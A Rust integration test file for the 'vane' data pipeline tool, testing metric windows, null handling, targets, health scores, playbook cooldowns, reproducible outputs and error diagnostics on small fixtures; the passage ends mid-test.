//! `vane run` end to end on tiny fixtures: window edges, empty entities,
//! nulls, targets, cooldowns, reproducibility, atomic partitions and bad data.

use std::path::{Path, PathBuf};

use chrono::NaiveDate;
use datafusion::arrow::array::RecordBatch;
use datafusion::arrow::util::display::array_value_to_string;
use vane::Data;
use vane::commands::{self, Exit};
use vane::diagnostics::Code;
use vane::run::{RunOptions, Stopwatch};

use crate::support::read_parquet;

/// A folder with fixture files and a pipeline.
struct Fixture {
    dir: tempfile::TempDir,
}

impl Fixture {
    fn new(files: &[(&str, &str)]) -> Fixture {
        let dir = tempfile::tempdir().expect("temp dir");
        for (name, text) in files {
            let path = dir.path().join(name);
            if let Some(parent) = path.parent() {
                std::fs::create_dir_all(parent).expect("mkdir");
            }
            std::fs::write(path, text).expect("write fixture");
        }
        Fixture { dir }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn options(&self, as_of: &str) -> RunOptions {
        RunOptions {
            as_of: Some(date(as_of)),
            out: Some(self.path("out")),
            threads: Some(2),
            ..RunOptions::default()
        }
    }

    /// The working scorecard and the actions for `as_of`, without writing anything.
    fn night(&self, as_of: &str) -> vane::run::Computed {
        let (checked, diagnostics) = commands::check_path(&self.path("p.yaml"), Data::Opened);
        let checked = checked
            .unwrap_or_else(|| panic!("{}", vane::diagnostics::render_human(&diagnostics, false)));
        let options = self.options(as_of);
        let runtime = tokio::runtime::Runtime::new().expect("runtime");
        runtime.block_on(async {
            let mut watch = Stopwatch::start();
            match vane::compute_night(&checked, &options, &mut watch, &|_| {}).await {
                Ok(night) => night.computed,
                Err(errors) => panic!("{}", vane::diagnostics::render_human(&errors, false)),
            }
        })
    }

    /// The working scorecard for `as_of`, without writing anything.
    fn compute(&self, as_of: &str) -> Vec<RecordBatch> {
        self.night(as_of).working
    }

    fn run(&self, as_of: &str) -> commands::Report {
        commands::run(&self.path("p.yaml"), &self.options(as_of), &|_| {})
    }
}

fn date(text: &str) -> NaiveDate {
    NaiveDate::parse_from_str(text, "%Y-%m-%d").expect("date")
}

/// The value of `column` for the row whose first column is `key`, as text ("null" for null).
fn value(batches: &[RecordBatch], key: &str, column: &str) -> String {
    for batch in batches {
        let keys = batch.column(0);
        for row in 0..batch.num_rows() {
            if array_value_to_string(keys, row).ok().as_deref() == Some(key) {
                let array = batch
                    .column_by_name(column)
                    .unwrap_or_else(|| panic!("no column {column}"));
                if array.is_null(row) {
                    return "null".into();
                }
                return array_value_to_string(array, row).expect("display");
            }
        }
    }
    panic!("no row {key}")
}

const ACCOUNTS: &str = "account_id,seats,segment\na1,10,smb\na2,0,ent\na3,5,ent\n";

#[test]
fn windows_are_half_open_and_rows_after_as_of_are_ignored() {
    let events = "account_id,event_time,amount\n\
        a1,2026-10-01T23:59:59,1\n\
        a1,2026-10-02T00:00:00,2\n\
        a1,2026-10-31T23:59:59,4\n\
        a1,2026-11-01T00:00:00,8\n\
        a1,2026-12-25T10:00:00,16\n";
    let pipeline = "vane: 1
sources:
  accounts: { path: accounts.csv }
  events: { path: events.csv, time: event_time }
entity: { name: account, source: accounts, key: account_id, attributes: [seats] }
metrics:
  in_window: { from: events, window: 30d, value: sum(amount), unused: true }
  all_history: { from: events, value: sum(amount), unused: true }
  per_seat: { value: in_window / account.seats, unused: true }
";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", pipeline),
    ]);
    let card = f.compute("2026-11-01");
    assert_eq!(
        value(&card, "a1", "in_window"),
        "6",
        "[Oct 2 00:00, Nov 1 00:00) holds 2 + 4"
    );
    assert_eq!(
        value(&card, "a1", "all_history"),
        "7",
        "everything before as-of"
    );
    assert_eq!(value(&card, "a2", "in_window"), "0", "no rows: sums are 0");
    assert_eq!(
        value(&card, "a2", "per_seat"),
        "null",
        "division by zero is null"
    );
    // Backfill: the same data as of an earlier night sees only what existed then.
    let earlier = f.compute("2026-10-02");
    assert_eq!(value(&earlier, "a1", "all_history"), "1");
}

#[test]
fn an_engine_that_cannot_be_used_is_a_diagnostic_and_nothing_is_written() {
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        (
            "p.yaml",
            "vane: 1
sources:
  accounts: { path: accounts.csv }
entity: { name: account, source: accounts, key: account_id, attributes: [seats] }
metrics:
  seats_x2: { value: account.seats * 2, unused: true }
",
        ),
    ]);
    let nobody = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("a free port");
    let options = RunOptions {
        engine: Some(format!("ballista://{nobody}")),
        ..f.options("2026-11-01")
    };
    let report = commands::run(&f.path("p.yaml"), &options, &|_| {});
    assert_eq!(report.exit, Exit::Error);
    let diagnostic = &report.diagnostics[0];
    assert_eq!(diagnostic.code, vane::diagnostics::Code::EngineUnavailable);
    let help = diagnostic.help.as_deref().unwrap_or_default();
    if vane::run::remote::BALLISTA_BUILT {
        assert!(
            diagnostic
                .message
                .contains(&format!("cannot reach the Ballista scheduler at {nobody}")),
            "{}",
            diagnostic.message
        );
        assert!(help.contains("start the scheduler"), "{help}");
    } else {
        assert!(
            diagnostic.message.contains("no Ballista engine"),
            "{}",
            diagnostic.message
        );
        assert!(help.contains("--features ballista"), "{help}");
    }
    assert!(!f.path("out/as_of=2026-11-01").exists());
    let bad = RunOptions {
        engine: Some("spark://host:7077".into()),
        ..f.options("2026-11-01")
    };
    let report = commands::run(&f.path("p.yaml"), &bad, &|_| {});
    assert_eq!(report.exit, Exit::Error);
    assert!(report.diagnostics[0].message.contains("is not an engine"));
}

#[test]
fn the_scorecard_says_how_many_rows_each_aggregate_metric_read() {
    let events = "account_id,event_time,kind,amount,user_id\n\
        a1,2026-09-01T10:00:00,renewal,5,u1\n\
        a1,2026-10-20T10:00:00,renewal,7,u1\n\
        a1,2026-10-21T10:00:00,expansion,3,u2\n\
        a1,2026-10-22T10:00:00,login,,u2\n\
        a1,2026-11-02T10:00:00,renewal,9,u3\n\
        a3,2026-10-25T10:00:00,churn,4,u9\n";
    let pipeline = "vane: 1
sources:
  accounts: { path: accounts.csv }
  events: { path: events.csv, time: event_time }
entity: { name: account, source: accounts, key: account_id, attributes: [seats] }
metrics:
  renewed: { from: events, window: 30d, value: \"sum_if(amount, kind = 'renewal')\", unused: true }
  moved: { from: events, window: 30d, value: \"sum_if(amount, kind = 'renewal') - sum_if(amount, kind = 'churn')\", unused: true }
  mean_amount: { from: events, window: 30d, where: amount is not null, value: avg(amount), unused: true }
  per_user: { from: events, value: count() / count_distinct(user_id), unused: true }
  users: { from: events, window: 30d, value: count_distinct(user_id), unused: true }
  per_seat: { value: renewed / account.seats, unused: true }
";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", pipeline),
    ]);
    let report = f.run("2026-11-01");
    assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
    let card = crate::support::read_parquet(&f.path("out/as_of=2026-11-01/scorecard.parquet"));
    let rows = |key: &str, metric: &str| value(&card, key, &format!("rows__{metric}"));
    assert_eq!(
        rows("a1", "renewed"),
        "1",
        "one renewal in the window; the Sep one is outside"
    );
    assert_eq!(rows("a1", "moved"), "1", "rows meeting either condition");
    assert_eq!(rows("a3", "moved"), "1");
    assert_eq!(
        rows("a1", "mean_amount"),
        "2",
        "the `where` applies; the login has no amount"
    );
    assert_eq!(
        rows("a1", "per_user"),
        "4",
        "no window: every row before as-of, not the Nov 2 one"
    );
    assert_eq!(rows("a2", "renewed"), "0", "no rows: 0");
    for derived_or_distinct in ["rows__users", "rows__per_seat"] {
        assert!(
            card.iter()
                .all(|b| b.column_by_name(derived_or_distinct).is_none()),
            "{derived_or_distinct}: distinct counts and derived metrics have no rows column"
        );
    }
}

#[test]
fn empty_entities_get_zero_counts_and_null_averages() {
    let events = "account_id,event_time,amount,user_id\na1,2026-10-20T10:00:00,5,u1\na1,2026-10-21T10:00:00,,u2\n";
    let pipeline = "vane: 1
sources:
  accounts: { path: accounts.csv }
  events: { path: events.csv, time: event_time }
entity: { name: account, source: accounts, key: account_id }
metrics:
  n: { from: events, window: 30d, value: count(), unused: true }
  non_null: { from: events, window: 30d, value: count(amount), unused: true }
  users: { from: events, window: 30d, value: count_distinct(user_id), unused: true }
  mean: { from: events, window: 30d, value: avg(amount), unused: true }
  biggest: { from: events, window: 30d, value: max(amount), unused: true }
  with_fallback: { value: \"coalesce(mean, 0)\", unused: true }
";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", pipeline),
    ]);
    let card = f.compute("2026-11-01");
    assert_eq!(value(&card, "a1", "n"), "2");
    assert_eq!(value(&card, "a1", "non_null"), "1", "count(x) skips nulls");
    assert_eq!(value(&card, "a1", "users"), "2");
    assert_eq!(
        value(&card, "a1", "mean"),
        "5.0",
        "null inputs are skipped by avg"
    );
    for column in ["n", "non_null", "users"] {
        assert_eq!(
            value(&card, "a3", column),
            "0",
            "{column} of an entity without rows"
        );
    }
    assert_eq!(value(&card, "a3", "mean"), "null");
    assert_eq!(value(&card, "a3", "biggest"), "null");
    assert_eq!(value(&card, "a3", "with_fallback"), "0.0");
}

const TARGETS_PIPELINE: &str = "vane: 1
sources:
  accounts: { path: accounts.csv }
  orders: { path: orders.csv, time: promised_at }
  targets: { path: targets.csv }
entity: { name: account, source: accounts, key: account_id, attributes: [segment] }
targets: { source: targets, effective_from: effective_from, effective_to: effective_to }
metrics:
  on_time: { from: orders, window: 90d, value: count_if(on_time) / count() }
  late_days: { from: orders, window: 90d, value: avg(late) }
indicators:
  on_time:
    kind: lagging
    metric: on_time
    score: attainment(value, 'on_time')
    group: outcomes
  lateness:
    kind: lagging
    metric: late_days
    score: attainment(value, 'late_days')
    group: outcomes
  volume:
    kind: leading
    metric: on_time
    score: ramp(value, 0, 1)
    group: adoption
health:
  groups: { outcomes: 3, adoption: 1 }
  bands:
    red: { from: 0, to: 50 }
    green: { from: 50, to: 100 }
  models:
    enterprise: { when: account.segment = 'ent', groups: { outcomes: 1 } }
";

#[test]
fn targets_honour_direction_and_effective_dates_and_missing_ones_drop_out() {
    let orders = "account_id,promised_at,on_time,late\n\
        a1,2026-10-10T00:00:00,true,0\n\
        a1,2026-10-11T00:00:00,false,4\n\
        a3,2026-10-10T00:00:00,true,2\n";
    let targets = "account_id,kpi,target,direction,effective_from,effective_to\n\
        a1,on_time,0.9,higher,2026-01-01,2026-10-15\n\
        a1,on_time,0.5,higher,2026-10-15,\n\
        a1,late_days,1,lower,2026-01-01,\n\
        a3,on_time,0.8,higher,2026-12-01,\n";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("orders.csv", orders),
        ("targets.csv", targets),
        ("p.yaml", TARGETS_PIPELINE),
    ]);
    let card = f.compute("2026-11-01");
    assert_eq!(
        value(&card, "a1", "target__on_time"),
        "0.5",
        "the target effective since Oct 15 applies"
    );
    assert_eq!(
        value(&card, "a1", "score__on_time"),
        "100.0",
        "0.5 on time against a 0.5 target"
    );
    assert_eq!(
        value(&card, "a1", "score__lateness"),
        "50.0",
        "2 days late against a 1-day target, lower is better"
    );
    let earlier = f.compute("2026-10-12");
    assert_eq!(
        value(&earlier, "a1", "target__on_time"),
        "0.9",
        "before Oct 15 the first target applies"
    );
    assert_eq!(value(&card, "a1", "direction__late_days"), "lower");
    assert_eq!(value(&card, "a1", "target__late_days"), "1.0");
    // a3's only target starts in December: no target, the indicator drops out,
    // and the group is the other indicators' weighted mean.
    assert_eq!(value(&card, "a3", "target__on_time"), "null");
    assert_eq!(value(&card, "a3", "score__on_time"), "null");
    assert_eq!(
        value(&card, "a3", "group__outcomes"),
        "null",
        "lateness has no target either"
    );
    assert_eq!(
        value(&card, "a3", "health"),
        "100.0",
        "outcomes drops out; adoption alone decides"
    );
    // The enterprise model weighs outcomes 1 instead of 3.
    assert_eq!(value(&card, "a3", "health_model"), "enterprise");
    assert_eq!(value(&card, "a1", "health_model"), "default");
    let a1_health: f64 = value(&card, "a1", "health").parse().expect("number");
    assert!(
        (a1_health - (3.0 * 75.0 + 50.0) / 4.0).abs() < 1e-9,
        "{a1_health}"
    );
    assert_eq!(value(&card, "a1", "band"), "green");
    assert_eq!(
        value(&card, "a2", "health"),
        "null",
        "no data at all: no health, no band"
    );
    assert_eq!(value(&card, "a2", "band"), "null");
}

const PLAYBOOK_PIPELINE: &str = "vane: 1
sources:
  accounts: { path: accounts.csv }
  events: { path: events.csv, time: event_time }
entity: { name: account, source: accounts, key: account_id, attributes: [seats] }
metrics:
  logins: { from: events, window: 7d, value: count() }
playbooks:
  quiet:
    when: logins < 1
    action: call
    priority: high
    owner: csm-team
    message: \"{account.account_id} has {logins} logins and {account.seats} seats\"
    cooldown: 2d
";

#[test]
fn cooldowns_hold_back_repeats_across_nights_and_re_runs_are_byte_identical() {
    let events = "account_id,event_time\na1,2026-10-30T10:00:00\n";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", PLAYBOOK_PIPELINE),
    ]);
    let first = f.run("2026-11-01");
    assert_eq!(first.exit, Exit::Ok, "{:?}", first.diagnostics);
    assert!(
        first.output.contains("2 actions: quiet 2"),
        "{}",
        first.output
    );
    let second = f.run("2026-11-02");
    assert!(
        second.output.contains("no playbooks fired"),
        "within the 2-day cooldown: {}",
        second.output
    );
    assert!(
        second
            .output
            .contains("2 actions held back by cooldowns (in held_back): quiet 2"),
        "{}",
        second.output
    );
    let third = f.run("2026-11-03");
    assert!(
        third.output.contains("quiet 2"),
        "two days later the cooldown is over: {}",
        third.output
    );

    let scorecard = f.path("out/as_of=2026-11-03/scorecard.parquet");
    let actions = f.path("out/as_of=2026-11-03/actions.parquet");
    let before = (
        std::fs::read(&scorecard).expect("scorecard"),
        std::fs::read(&actions).expect("actions"),
    );
    let again = f.run("2026-11-03");
    assert_eq!(again.exit, Exit::Ok);
    let after = (
        std::fs::read(&scorecard).expect("scorecard"),
        std::fs::read(&actions).expect("actions"),
    );
    assert!(
        before == after,
        "the same inputs and as-of give byte-identical outputs"
    );
    let manifest =
        std::fs::read_to_string(f.path("out/as_of=2026-11-03/manifest.json")).expect("manifest");
    assert!(manifest.contains("\"sha256\""), "{manifest}");
    assert!(manifest.contains("events.csv"), "{manifest}");
}

#[test]
fn messages_render_values_and_reasons() {
    let events = "account_id,event_time\na1,2026-10-30T10:00:00\n";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", PLAYBOOK_PIPELINE),
    ]);
    let actions = f.night("2026-11-01").actions;
    let entity = |row: usize| {
        actions
            .iter()
            .flat_map(|b| (0..b.num_rows()).map(move |r| (b, r)))
            .nth(row)
            .expect("row")
    };
    let (batch, row) = entity(0);
    let text = |c: &str| {
        array_value_to_string(batch.column_by_name(c).expect("column"), row).expect("text")
    };
    assert_eq!(text("entity"), "a2");
    assert_eq!(text("message"), "a2 has 0 logins and 0 seats");
    assert_eq!(text("reason"), "logins=0");
    assert_eq!(text("dedup_key"), "a2:quiet");
    assert_eq!(text("owner"), "csm-team");
}

#[test]
fn an_owner_template_with_a_null_hole_falls_back_to_the_pipelines_owner() {
    let accounts = "account_id,seats,csm\na1,10,ana\na2,0,\n";
    let events = "account_id,event_time\nz9,2026-10-30T10:00:00\n";
    let pipeline = |owner_line: &str| {
        PLAYBOOK_PIPELINE
            .replace("vane: 1\n", &format!("vane: 1\n{owner_line}"))
            .replace("attributes: [seats]", "attributes: [seats, csm]")
            .replace("owner: csm-team", "owner: \"{account.csm}\"")
    };
    let owners = |pipeline: String| {
        let f = Fixture::new(&[
            ("accounts.csv", accounts),
            ("events.csv", events),
            ("p.yaml", &pipeline),
        ]);
        let actions = f.night("2026-11-01").actions;
        let mut owners = Vec::new();
        for batch in &actions {
            let column = batch.column_by_name("owner").expect("owner");
            for row in 0..batch.num_rows() {
                owners.push(
                    column
                        .is_valid(row)
                        .then(|| array_value_to_string(column, row).expect("text")),
                );
            }
        }
        owners
    };
    assert_eq!(
        owners(pipeline("owner: cs-ops@example.com\n")),
        vec![
            Some("ana".to_string()),
            Some("cs-ops@example.com".to_string())
        ],
        "a1's CSM, and the pipeline's owner for a2, whose CSM is empty"
    );
    assert_eq!(
        owners(pipeline("")),
        vec![Some("ana".to_string()), None],
        "without a pipeline owner, nobody — never the word `null`"
    );
}

#[test]
fn a_failed_run_leaves_the_previous_night_intact() {
    let events = "account_id,event_time\na1,2026-10-30T10:00:00\n";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", PLAYBOOK_PIPELINE),
    ]);
    assert_eq!(f.run("2026-11-01").exit, Exit::Ok);
    let night = f.path("out/as_of=2026-11-01");
    let before: Vec<Vec<u8>> = ["scorecard.parquet", "actions.parquet"]
        .iter()
        .map(|n| std::fs::read(night.join(n)).expect("read"))
        .collect();
    // The events file goes bad far below the rows schema inference reads, so
    // the run fails while executing; the same night must keep what was there.
    let mut bad = String::from("account_id,event_time\n");
    for _ in 0..3000 {
        bad.push_str("a1,2026-10-30T10:00:00\n");
    }
    bad.push_str("a1,not a time\n");
    std::fs::write(f.path("events.csv"), bad).expect("write");
    let failed = f.run("2026-11-01");
    assert_eq!(failed.exit, Exit::Error, "{}", failed.output);
    let (code, message) = first_error(&failed);
    assert!(
        matches!(
            code,
            Code::DataUnreadable | Code::SchemaMismatch | Code::RunFailed
        ),
        "{code:?}: {message}"
    );
    let after: Vec<Vec<u8>> = ["scorecard.parquet", "actions.parquet"]
        .iter()
        .map(|n| std::fs::read(night.join(n)).expect("read"))
        .collect();
    assert!(before == after, "the earlier partition is untouched");
    let leftovers: Vec<String> = std::fs::read_dir(f.path("out"))
        .expect("out")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(
        leftovers.is_empty(),
        "no temporary folders left: {leftovers:?}"
    );
}

fn first_error(report: &commands::Report) -> (Code, String) {
    let d = report
        .diagnostics
        .iter()
        .find(|d| d.is_error())
        .expect("an error");
    (d.code, d.message.clone())
}

#[test]
fn bad_data_gets_diagnostics_naming_the_file_or_column() {
    let good_events = "account_id,event_time\na1,2026-10-30T10:00:00\n";
    // A missing data file.
    let f = Fixture::new(&[("accounts.csv", ACCOUNTS), ("p.yaml", PLAYBOOK_PIPELINE)]);
    let report = f.run("2026-11-01");
    let (code, message) = first_error(&report);
    assert_eq!((report.exit, code), (Exit::Error, Code::DataUnreadable));
    assert!(message.contains("events.csv"), "{message}");

    // A corrupt Parquet file.
    let corrupt = PLAYBOOK_PIPELINE.replace("events.csv", "events.parquet");
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.parquet", "PAR1 this is not parquet"),
        ("p.yaml", &corrupt),
    ]);
    let report = f.run("2026-11-01");
    let (code, message) = first_error(&report);
    assert_eq!(code, Code::DataUnreadable, "{message}");
    assert!(message.contains("events.parquet"), "{message}");

    // A column whose type does not fit: seats is text here.
    let accounts = "account_id,seats\na1,many\n";
    let typed = PLAYBOOK_PIPELINE.replace("{account.seats} seats", "{account.seats * 2} seats");
    let f = Fixture::new(&[
        ("accounts.csv", accounts),
        ("events.csv", good_events),
        ("p.yaml", &typed),
    ]);
    let report = f.run("2026-11-01");
    let (code, message) = first_error(&report);
    assert_eq!(code, Code::TypeMismatch, "{message}");

    // A column the pipeline names that the data lacks.
    let f = Fixture::new(&[
        ("accounts.csv", "account_id\na1\n"),
        ("events.csv", good_events),
        ("p.yaml", PLAYBOOK_PIPELINE),
    ]);
    let report = f.run("2026-11-01");
    let (code, message) = first_error(&report);
    assert_eq!(code, Code::SchemaMismatch, "{message}");
    assert!(message.contains("seats"), "{message}");

    // An empty source (header only) is fine: every entity gets a row with zero counts.
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", "account_id,event_time\n"),
        ("p.yaml", PLAYBOOK_PIPELINE),
    ]);
    let report = f.run("2026-11-01");
    assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
    assert!(report.output.contains("quiet 3"), "{}", report.output);
}

#[test]
fn bad_arguments_and_unwritable_outputs_are_errors() {
    // Flags that are not dates or sizes: see the unit tests in src/main.rs.
    let events = "account_id,event_time\na1,2026-10-30T10:00:00\n";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", PLAYBOOK_PIPELINE),
        ("blocker", "a file where the output folder should be"),
    ]);
    let mut options = f.options("2026-11-01");
    options.out = Some(f.path("blocker/out"));
    let report = commands::run(&f.path("p.yaml"), &options, &|_| {});
    let (code, _) = first_error(&report);
    assert_eq!((report.exit, code), (Exit::Error, Code::OutputFailed));
}

fn repo(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(path)
}

#[test]
fn the_example_scorecard_matches_an_independent_duckdb_query() {
    let Some(python) = crate::support::python_with_duckdb() else {
        return;
    };
    let out = tempfile::tempdir().expect("temp dir");
    let options = RunOptions {
        as_of: Some(date("2026-11-01")),
        out: Some(out.path().to_path_buf()),
        ..RunOptions::default()
    };
    let report = commands::run(&repo("pipelines/customer_health.yaml"), &options, &|_| {});
    assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
    let scorecard = out.path().join("as_of=2026-11-01/scorecard.parquet");
    crate::support::run_differential(
        &python,
        &repo("tests/differential/customer_health.py"),
        &[
            repo("examples/data").as_os_str(),
            scorecard.as_os_str(),
            std::ffi::OsStr::new("2026-11-01"),
            out.path()
                .join("as_of=2026-11-01/rollups.parquet")
                .as_os_str(),
        ],
    );
}

#[test]
fn a_tight_memory_limit_gives_the_same_scorecard() {
    // 16 MB failed while DataFusion sorted the facts: it counted the string
    // buffers the joined rows share once per batch.
    let scorecard = |memory_limit: Option<usize>| {
        let out = tempfile::tempdir().expect("temp dir");
        let options = RunOptions {
            as_of: Some(date("2026-11-01")),
            out: Some(out.path().to_path_buf()),
            memory_limit,
            threads: Some(2),
            ..RunOptions::default()
        };
        let report = commands::run(&repo("pipelines/customer_health.yaml"), &options, &|_| {});
        assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
        std::fs::read(out.path().join("as_of=2026-11-01/scorecard.parquet")).expect("scorecard")
    };
    assert_eq!(scorecard(Some(16 << 20)), scorecard(None));
}

#[test]
fn many_threads_over_little_data_run_in_few_partitions_with_the_same_results() {
    // `--threads 1024` over the (then 1.4 MB) example took 6.7 GB: a thousand
    // partitions, each with buffers of its own in every aggregation.
    let night = |threads: usize| {
        let out = tempfile::tempdir().expect("temp dir");
        let options = RunOptions {
            as_of: Some(date("2026-11-01")),
            out: Some(out.path().to_path_buf()),
            threads: Some(threads),
            ..RunOptions::default()
        };
        let report = commands::run(&repo("pipelines/customer_health.yaml"), &options, &|_| {});
        assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
        let partition = out.path().join("as_of=2026-11-01");
        let manifest: serde_json::Value = serde_json::from_slice(
            &std::fs::read(partition.join("manifest.json")).expect("manifest"),
        )
        .expect("manifest is JSON");
        let scorecard = std::fs::read(partition.join("scorecard.parquet")).expect("scorecard");
        let input_bytes: u64 = manifest["inputs"]
            .as_array()
            .expect("inputs")
            .iter()
            .flat_map(|input| input["files"].as_array().expect("files"))
            .map(|file| file["bytes"].as_u64().expect("bytes"))
            .sum();
        (manifest["settings"].clone(), input_bytes, scorecard)
    };
    let (settings, input_bytes, scorecard) = night(1024);
    assert_eq!(settings["threads"], 1024);
    let expected = vane::run::partitions_for(1024, input_bytes);
    assert!(expected <= 8, "{input_bytes} bytes of input");
    assert_eq!(settings["partitions"], expected, "{settings}");
    assert_eq!(scorecard, night(2).2);
    assert_eq!(vane::run::partitions_for(8, 0), 1);
    assert_eq!(vane::run::partitions_for(8, 100 << 20), 8);
}

#[test]
fn sample_data_is_deterministic_and_the_bundled_examples_are_current() {
    let out = tempfile::tempdir().expect("temp dir");
    let options = vane::sample::SampleOptions {
        out: out.path().to_path_buf(),
        accounts: 400,
        events_per_account: 600,
        seed: 42,
        end: date("2026-11-01"),
        days: 365,
    };
    let summary = vane::sample::generate(&options, &|_| {}).expect("generate");
    assert!(
        summary
            .tables
            .iter()
            .any(|(t, n)| t == "events" && *n > 10_000)
    );
    let mut compared = 0;
    for entry in walk(out.path()) {
        let relative = entry.strip_prefix(out.path()).expect("inside");
        let bundled = repo("examples/data").join(relative);
        assert!(
            std::fs::read(&entry).ok() == std::fs::read(&bundled).ok(),
            "{} differs from the generator's output: regenerate with `vane sample-data --out examples/data`",
            bundled.display()
        );
        compared += 1;
    }
    assert!(compared >= 7);
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files.extend(walk(&path));
        } else {
            files.push(path);
        }
    }
    files.sort();
    files
}

#[test]
fn hive_partitions_globs_json_lines_and_csv_outputs_work_and_trend_reads_the_previous_night() {
    let pipeline = "vane: 1
sources:
  accounts: { path: accounts.jsonl }
  events:
    path: events
    format: csv
    time: event_time
    partitions: [region]
  extra: { path: \"extra/*.csv\", time: at }
entity: { name: account, source: accounts, key: account_id, attributes: [seats] }
metrics:
  eu_events: { from: events, window: 30d, where: region = 'eu', value: count() }
  extra_rows: { from: extra, window: 30d, value: count() }
indicators:
  activity:
    kind: leading
    metric: eu_events
    score: ramp(value, 0, 4)
    group: usage
health:
  groups: { usage: 1 }
  bands:
    low: { from: 0, to: 50 }
    high: { from: 50, to: 100 }
outputs: { format: csv }
";
    let f = Fixture::new(&[
        (
            "accounts.jsonl",
            "{\"account_id\": \"a1\", \"seats\": 3}\n{\"account_id\": \"a2\", \"seats\": 5}\n",
        ),
        (
            "events/region=eu/part-1.csv",
            "account_id,event_time\na1,2026-10-20T10:00:00\na1,2026-10-31T10:00:00\n",
        ),
        (
            "events/region=us/part-1.csv",
            "account_id,event_time\na1,2026-10-21T10:00:00\na2,2026-10-22T10:00:00\n",
        ),
        ("extra/one.csv", "account_id,at\na2,2026-10-25T00:00:00\n"),
        ("extra/two.csv", "account_id,at\na2,2026-10-26T00:00:00\n"),
        ("p.yaml", pipeline),
    ]);
    let card = f.compute("2026-11-01");
    assert_eq!(
        value(&card, "a1", "eu_events"),
        "2",
        "the region partition is a column"
    );
    assert_eq!(value(&card, "a2", "eu_events"), "0");
    assert_eq!(
        value(&card, "a2", "extra_rows"),
        "2",
        "the glob reads both files"
    );

    assert_eq!(f.run("2026-10-31").exit, Exit::Ok);
    let report = f.run("2026-11-01");
    assert_eq!(report.exit, Exit::Ok, "{:?}", report.diagnostics);
    let scorecard = std::fs::read_to_string(f.path("out/as_of=2026-11-01/scorecard.csv"))
        .expect("csv scorecard");
    let header: Vec<&str> = scorecard
        .lines()
        .next()
        .expect("header")
        .split(',')
        .collect();
    let a1: Vec<&str> = scorecard.lines().nth(1).expect("a1").split(',').collect();
    let column = |name: &str| {
        a1[header
            .iter()
            .position(|h| *h == name)
            .unwrap_or_else(|| panic!("{name} in {header:?}"))]
    };
    assert_eq!(column("health"), "50.0", "2 EU events of 4");
    assert_eq!(
        column("previous_health"),
        "25.0",
        "one EU event before Oct 31"
    );
    assert_eq!(column("trend"), "25.0");
    assert!(f.path("out/as_of=2026-11-01/actions.csv").is_file());

    let mut options = f.options("2026-11-02");
    options.format = Some(vane::base::FileFormat::JsonLines);
    let report = commands::run(&f.path("p.yaml"), &options, &|_| {});
    assert_eq!(report.exit, Exit::Ok);
    let jsonl = std::fs::read_to_string(f.path("out/as_of=2026-11-02/scorecard.jsonl"))
        .expect("jsonl scorecard");
    assert!(
        jsonl
            .lines()
            .next()
            .is_some_and(|l| l.starts_with("{\"account_id\":\"a1\"")),
        "{jsonl}"
    );
}

#[test]
fn one_action_per_dedup_key_and_night() {
    let pipeline = PLAYBOOK_PIPELINE.replace(
        "    cooldown: 2d\n",
        "    dedup_key: \"team-call\"\n    cooldown: 2d\n",
    );
    let events = "account_id,event_time\na1,2026-10-30T10:00:00\n";
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", &pipeline),
    ]);
    let report = f.run("2026-11-01");
    assert!(
        report.output.contains("1 actions: quiet 1"),
        "a2 and a3 share the dedup key: {}",
        report.output
    );
}

#[test]
fn huge_durations_are_refused_or_computed_exactly_never_wrapped() {
    let events = "account_id,event_time,amount\n\
        a1,1970-01-01T00:00:00,1\n\
        a1,2026-10-31T23:59:59,4\n";
    let pipeline = |window: &str, value: &str| {
        format!(
            "vane: 1
sources:
  accounts: {{ path: accounts.csv }}
  events: {{ path: events.csv, time: event_time }}
entity: {{ name: account, source: accounts, key: account_id, attributes: [seats] }}
metrics:
  total: {{ from: events, window: {window}, value: sum(amount), unused: true }}
  before: {{ value: \"{value}\", unused: true }}
"
        )
    };
    // 110,000,000 days wrapped into a short window before; now the checker
    // refuses what a timestamp cannot hold, at the window.
    for window in ["110000000d", "200000000000d", "9223372036854775807s"] {
        let f = Fixture::new(&[
            ("accounts.csv", ACCOUNTS),
            ("events.csv", events),
            ("p.yaml", &pipeline(window, "total")),
        ]);
        let report = f.run("2026-11-01");
        let (code, message) = first_error(&report);
        assert_eq!(
            (report.exit, code),
            (Exit::Error, Code::InvalidLiteral),
            "{message}"
        );
        assert!(message.contains(window), "{message}");
    }
    // The longest window that fits is computed exactly: every row counts.
    let f = Fixture::new(&[
        ("accounts.csv", ACCOUNTS),
        ("events.csv", events),
        ("p.yaml", &pipeline("100000000d", "total")),
    ]);
    assert_eq!(value(&f.compute("2026-11-01"), "a1", "total"), "5");
